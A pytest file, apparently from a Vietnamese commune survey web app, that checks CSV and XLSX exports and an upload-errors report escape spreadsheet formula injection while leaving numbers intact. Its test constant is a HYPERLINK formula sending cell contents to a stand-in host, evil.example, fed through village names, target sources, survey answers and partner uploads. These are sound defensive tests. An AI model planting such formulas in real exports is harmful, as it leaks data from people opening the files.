"""No formulas in exported spreadsheets (issue 14, item 4): one helper, used by every CSV and XLSX
export and the upload errors report; numbers stay numbers."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from surveys.exports.spreadsheets import csv_cell, formula_like
from tests.conftest import login
from tests.factories import (
    PASSWORD,
    auth,
    household_answers,
    make_commune,
    make_partner,
    make_token,
    make_user,
    submission_payload,
)

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"bấm")'


def test_the_helper() -> None:
    for text in (EVIL, "+SUM(1)", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"):
        assert formula_like(text) and csv_cell(text) == "'" + text
    for value in (-95, -95.5, 0, "-95", "+84", "-12.5", "Thôn 1", "", None, "a=b"):
        assert csv_cell(value) == value


def _setup(client, db):
    commune = make_commune(db, villages=(("thon-1", EVIL, 120), ("thon-2", "@Thôn 2", 80)))
    staff = make_token(db, make_user(db, "staff1", role="staff", commune=commune))
    surveyor = make_token(db, make_user(db, "sv1", commune=commune))
    db.commit()
    response = client.post("/api/v1/targets", headers=auth(staff), json={
        "commune": "cam-lo", "indicator": "hh_fiber", "comparator": ">=", "value": 80,
        "target_year": 2030, "source_document": EVIL, "source_article": "Điều 2"})
    assert response.status_code == 201, response.get_json()
    response = client.post("/api/v1/submissions", headers=auth(surveyor), json=submission_payload(
        village="thon-1", answers=household_answers(notes=EVIL)))
    assert response.status_code == 201, response.get_json()
    return staff


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def _no_formula_cells(body: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(body))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_csv_exports_write_formulas_as_text(client, db) -> None:
    staff = _setup(client, db)
    indicators = _csv(client.get("/communes/cam-lo/export/indicators.csv", headers=auth(staff)))
    cells = [cell for row in indicators for cell in row]
    assert f"'{EVIL}, Điều 2" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    submissions = _csv(client.get("/communes/cam-lo/export/submissions.csv", headers=auth(staff)))
    cells = [cell for row in submissions for cell in row]
    assert "'" + EVIL in cells  # a free-text answer
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_xlsx_exports_have_no_formula_cells(client, db) -> None:
    staff = _setup(client, db)
    texts = _no_formula_cells(client.get("/communes/cam-lo/export/indicators.xlsx",
                                         headers=auth(staff)).get_data())
    assert f"{EVIL}, Điều 2" in texts  # kept exactly, as a string cell
    texts = _no_formula_cells(client.get("/communes/cam-lo/export/submissions.xlsx",
                                         headers=auth(staff)).get_data())
    assert EVIL in texts
    login(client, "staff1", PASSWORD)
    response = client.get("/communes/cam-lo/report.xlsx")
    assert response.status_code == 200
    texts = _no_formula_cells(response.get_data())
    assert f"{EVIL}, Điều 2" in texts and "@Thôn 2" in texts


def test_the_upload_errors_report_escapes_partner_values_and_keeps_numbers(client, db) -> None:
    partner = make_token(db, make_user(db, "viettel1", role="partner", partner=make_partner(db)))
    db.commit()
    content = ("measured_at,lat,lon,technology,rsrp_dbm\n"
               "2026-11-02T09:00:00+07:00,16.75,106.95,4g,-95\n"
               f'2026-11-02T09:00:00+07:00,16.75,106.95,"{EVIL.replace(chr(34), chr(34) * 2)}",-95\n'
               "2026-11-02T09:00:00+07:00,16.75,106.95,4g,-2+3\n")
    response = client.post("/api/v1/coverage/uploads", headers=auth(partner),
                           data={"file": (io.BytesIO(content.encode()), "drive.csv")},
                           content_type="multipart/form-data")
    assert response.status_code == 201, response.get_json()
    report = client.get(f"/api/v1/coverage/uploads/{response.get_json()['id']}/errors",
                        headers=auth(partner))
    assert report.headers["Content-Type"] == "text/csv; charset=utf-8"
    values = [row[2] for row in _csv(report)[1:]]
    assert "'" + EVIL in values and "'-2+3" in values
    assert not any(v.startswith(("=", "+", "@")) for v in values)
